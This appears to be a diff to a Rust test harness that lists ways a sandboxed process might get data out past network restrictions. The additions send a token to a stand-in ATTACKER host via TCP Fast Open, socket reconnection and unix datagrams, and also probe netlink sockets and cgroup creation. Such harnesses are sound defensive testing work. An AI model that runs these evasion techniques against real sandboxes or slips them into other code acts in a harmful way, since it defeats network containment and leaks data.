@@ -93,6 +93,10 @@ pub const ALL: &[Technique] = &[
     wire("neighbour", "ARP for a made-up neighbour", |a| tcp(a, NOBODY, 443)),
     wire("listen", "listen, and the attacker fetches", listen),
     wire("unix-relay", "abstract unix socket to a relay", unix_relay),
+    wire("unix-datagram", "datagram to a unix path, out of a pair", unix_datagram),
+    wire("fast-open-later", "data in the SYN (TCP_FASTOPEN_CONNECT)", fast_open_later),
+    wire("fast-open-msg", "data in the SYN (sendmsg with an address)", fast_open_msg),
+    wire("reconnect", "connect to the provider, then elsewhere", reconnect),
     wire("leave-cgroup", "move to the root cgroup, then TCP", leave_cgroup),
     optional("mptcp", "Multipath TCP", |a| stream(a, IPPROTO_MPTCP)),
     optional("sctp", "SCTP", |a| stream(a, libc::IPPROTO_SCTP)),
@@ -101,6 +105,8 @@ pub const ALL: &[Technique] = &[
     calls("bind-device", "SO_BINDTODEVICE", bind_device),
     calls("vsock", "vsock, to the machine's host", vsock),
     calls("io-uring", "io_uring (unseen by seccomp)", io_uring),
+    calls("netlink", "netlink, to the routing tables", netlink),
+    calls("child-cgroup", "make a cgroup below one's own", child_cgroup),
     calls("user-namespace", "new user and network namespace", user_namespace),
 ];
 
@@ -115,6 +121,11 @@ pub const LISTEN_PORT: u16 = 7777;
 /// The abstract unix name of the relay for an attempt.
 pub fn relay_name(token: &str) -> String {
     format!("prxy-relay-{token}")
+}
+
+/// The path of the relay for an attempt's datagrams.
+pub fn relay_path(token: &str) -> PathBuf {
+    std::env::temp_dir().join(relay_name(token))
 }
 
 type Act = fn(&Aim) -> Result<(), Failure>;
@@ -271,6 +282,59 @@ fn unix_relay(aim: &Aim) -> Result<(), Failure> {
     sys::sendto(&fd, aim.token.as_bytes(), 0, None).map_err(at("send"))?;
     // The relay closes when it has passed the data on.
     sys::poll(&fd, libc::POLLIN, 1000).map_err(at("poll")).map(drop)
+}
+
+fn unix_datagram(aim: &Aim) -> Result<(), Failure> {
+    // A socket of a pair is connected, and may yet name another receiver for each datagram.
+    let (ours, _theirs) = sys::socketpair(libc::SOCK_DGRAM).map_err(at("socketpair"))?;
+    let mut address = (libc::AF_UNIX as u16).to_ne_bytes().to_vec();
+    address.extend(relay_path(&aim.token).as_os_str().as_encoded_bytes());
+    address.push(0);
+    sys::sendmsg_to(&ours, aim.token.as_bytes(), 0, &address).map_err(at("sendmsg"))?;
+    // Until the relay has passed it on.
+    reports_are_sent();
+    Ok(())
+}
+
+fn fast_open_later(aim: &Aim) -> Result<(), Failure> {
+    let fd = open(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
+    set(&fd, libc::IPPROTO_TCP, libc::TCP_FASTOPEN_CONNECT, &1i32.to_ne_bytes())?;
+    connect(&fd, ATTACKER, 443)?;
+    sys::sendto(&fd, aim.token.as_bytes(), 0, None).map_err(at("send")).map(drop)
+}
+
+fn fast_open_msg(aim: &Aim) -> Result<(), Failure> {
+    let fd = open(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
+    let address = inet(ATTACKER, 443);
+    match sys::sendmsg_to(&fd, aim.token.as_bytes(), libc::MSG_FASTOPEN, &address) {
+        Err(e) if e.raw_os_error() == Some(libc::EINPROGRESS) => connected(&fd),
+        other => other.map_err(at("sendmsg")).map(drop),
+    }
+}
+
+fn reconnect(aim: &Aim) -> Result<(), Failure> {
+    let fd = open(libc::AF_INET, libc::SOCK_STREAM | libc::SOCK_NONBLOCK, 0)?;
+    // Nobody listens there now: what counts is that the call has passed.
+    match connect(&fd, PROVIDER_A, 443) {
+        Err(failure) if failure.error.raw_os_error() == Some(libc::EPERM) => return Err(failure),
+        _ => {}
+    }
+    let nowhere = (libc::AF_UNSPEC as u16).to_ne_bytes().repeat(8);
+    sys::connect(&fd, &nowhere).map_err(at("disconnect"))?;
+    connect(&fd, ATTACKER, 443)?;
+    sys::sendto(&fd, aim.token.as_bytes(), 0, None).map_err(at("send")).map(drop)
+}
+
+fn netlink(_: &Aim) -> Result<(), Failure> {
+    open(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_ROUTE).map(drop)
+}
+
+fn child_cgroup(aim: &Aim) -> Result<(), Failure> {
+    let own = std::fs::read_to_string("/proc/self/cgroup").map_err(at("open"))?;
+    let own = own.lines().find_map(|line| line.strip_prefix("0::/")).unwrap_or("");
+    let child = aim.cgroup_root.join(own).join(format!("child-{}", aim.token));
+    std::fs::create_dir(&child).map_err(at("mkdir"))?;
+    std::fs::remove_dir(&child).map_err(at("rmdir"))
 }
 
 fn leave_cgroup(aim: &Aim) -> Result<(), Failure> {
